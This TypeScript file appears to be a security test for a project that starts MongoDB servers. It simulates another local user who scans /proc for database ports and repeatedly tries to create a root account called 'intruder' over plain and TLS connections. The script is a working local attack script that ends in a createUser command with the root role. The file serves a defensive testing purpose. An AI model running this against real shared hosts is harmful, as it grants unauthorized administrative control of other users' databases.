import { readdirSync, readFileSync } from 'node:fs';
import { setTimeout as delay } from 'node:timers/promises';
import { MongoClient, type MongoClientOptions } from 'mongodb';
import { createCertificate } from './certificate.ts';

// Run as `node test-intruder.ts FOLDER`: another user of the machine, who reads no file of ours but sees every process. As
// soon as a database runs below the folder, it connects in every way it can and makes itself root. Says `tried PORT` of each
// attempt that reached the port, and `root PORT` of each that succeeded.
const folder = process.argv[2] as string;
const { key, certificate } = createCertificate('intruder');
const WAYS: MongoClientOptions[] = [
  {},
  { tls: true, tlsAllowInvalidCertificates: true },
  { tls: true, tlsAllowInvalidCertificates: true, key, cert: certificate },
];

/** The ports of the databases below the folder, as `ps` shows them to everybody. */
function ports(): string[] {
  return readdirSync('/proc').flatMap((pid) => {
    if (!/^\d+$/.test(pid)) return [];
    try {
      const words = readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0');
      return words[0]?.endsWith('.ts') || !words.some((word) => word.startsWith(`${folder}/`)) ? [] : portIn(words);
    } catch {
      return [];
    }
  });
}

const portIn = (words: string[]): string[] => words.slice(words.indexOf('--port') + 1).slice(0, 1);

async function attack(port: string, way: MongoClientOptions): Promise<void> {
  const client = new MongoClient(`mongodb://127.0.0.1:${port}/?directConnection=true`, {
    ...way,
    serverSelectionTimeoutMS: 100,
    heartbeatFrequencyMS: 500,
  });
  try {
    await client.db('admin').command({ createUser: 'intruder', pwd: 'intruder', roles: ['root'] });
    console.log(`root ${port}`);
  } catch (error) {
    if (!/ECONNREFUSED/.test(String((error as Error).message))) console.log(`tried ${port}`);
  } finally {
    await client.close();
  }
}

for (;;) {
  await Promise.all(ports().flatMap((port) => WAYS.map((way) => attack(port, way))));
  await delay(5);
}
